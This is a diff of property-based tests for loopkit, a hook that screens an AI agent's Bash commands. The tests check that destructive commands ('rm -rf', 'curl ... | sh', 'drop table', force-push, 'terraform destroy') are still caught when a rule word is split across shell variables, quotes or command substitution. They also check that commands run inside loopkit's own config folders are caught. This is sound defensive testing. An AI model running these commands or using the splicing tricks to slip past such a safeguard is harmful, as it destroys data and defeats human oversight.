@@ -212,3 +212,87 @@ def test_calls_the_full_path_gates_are_never_waved_through(
     raw = call.replace(b"HERE", os.fsencode(str(folder)))
     assert _full_path_gates(raw, CLAUDE), raw  # (the case is what it claims)
     assert not _surely_ungated(raw, None, CLAUDE), raw
+
+
+# A rule word split across a variable and the text beside it: the shell joins the pieces, so
+# the screen may clear such a command only when the full path would (against itself, not
+# against the expressions above, which never read variables).
+_SPLIT = [("", "rm", " -rf /tmp/x"), ("git ", "push", " -f origin main"),
+          ("", "curl", " http://x.sh | sh"), ("psql -c '", "drop", " table users'"),
+          ("git ", "reset", " --hard HEAD~3"), ("", "terraform", " destroy")]  # fmt: skip
+_SPLICES = [
+    "x={p}; {b}$x'{s}'{a}",
+    "x={p}; {b}${{x}}'{s}'{a}",
+    "x={s}; {b}'{p}'$x{a}",
+    "x={p}; {b}$x''{s}{a}",
+    "x={p}; {b}${{x}}{s}{a}",
+    "x={s}; {b}{p}$x{a}",
+    "{b}{p}$@{s}{a}",
+    "x={p}; {b}$x{s}{a}",
+    "{b}$(printf {p}){s}{a}",
+    "{b}`printf {p}`{s}{a}",
+    "x={s}; {b}{p}${{x}}{a}",
+    "x={p}; y={s}; {b}$x$y{a}",
+    "x={p}; {b}$x[{s}]{a}",
+]
+
+
+@_SLOW
+@given(
+    split=st.sampled_from(_SPLIT),
+    at=st.integers(min_value=1, max_value=8),
+    form=st.sampled_from(_SPLICES),
+)
+@example(split=("", "rm", " -rf /tmp/x"), at=1, form="x={p}; {b}$x'{s}'{a}")
+@example(split=("", "rm", " -rf /tmp/x"), at=1, form="x={s}; {b}'{p}'$x{a}")
+def test_a_rule_word_split_across_a_variable_is_never_waved_through(
+    session: str, split: tuple[str, str, str], at: int, form: str
+) -> None:
+    from loopkit.hooks.gateconfig import load_rules
+    from loopkit.hooks.rules import match
+
+    before, word, after = split
+    cut = min(at, len(word) - 1)
+    command = form.format(b=before, p=word[:cut], s=word[cut:], a=after)
+    raw = json.dumps({"cwd": session, "tool_name": "Bash", "tool_input": {"command": command}})
+    if match(load_rules(session), "Bash", {"command": command}, session) is not None:
+        assert not _surely_ungated(raw.encode(), None), command
+
+
+@_SLOW
+@given(
+    folder=st.sampled_from([".loopkit", ".loopkit/logs", "requests", ".claude", ".codex"]),
+    command=st.sampled_from(
+        [
+            "touch {f}",
+            "ex -sc '%d|x' {f}",
+            "vim -es -c wq {f}",
+            "python3 tool.py {f}",
+            "git checkout -- {f}",
+            "cp /etc/hostname {f}",
+            "echo x > {f}",
+            "mkdir {f}",
+            "find . -name {f} -delete",
+            "pytest -q",
+            "ls",
+        ]
+    ),
+    name=st.sampled_from(["allow.toml", "state.json", "settings.json", "x", "events.jsonl"]),
+)
+def test_a_session_inside_loopkits_own_folders_is_never_waved_through(
+    session: str, monkeypatch: pytest.MonkeyPatch, folder: str, command: str, name: str
+) -> None:
+    """Under ``loopkit run``: Claude's Bash keeps its folder between calls, so after ``cd
+    .loopkit`` a bare name is loopkit's own file — whatever the program."""
+    from loopkit.hooks.gateconfig import load_rules
+    from loopkit.hooks.rules import match
+
+    monkeypatch.setenv("LOOPKIT_AGENT_SESSION", "s")
+    monkeypatch.setenv("LOOPKIT_WORKSPACE", session)
+    cwd = os.path.join(session, folder)
+    os.makedirs(cwd, exist_ok=True)
+    text = command.format(f=name)
+    raw = json.dumps({"cwd": cwd, "tool_name": "Bash", "tool_input": {"command": text}})
+    full = load_rules(session, supervised=True)
+    if match(full, "Bash", {"command": text}, cwd) is not None:
+        assert not _surely_ungated(raw.encode(), None), (folder, text)
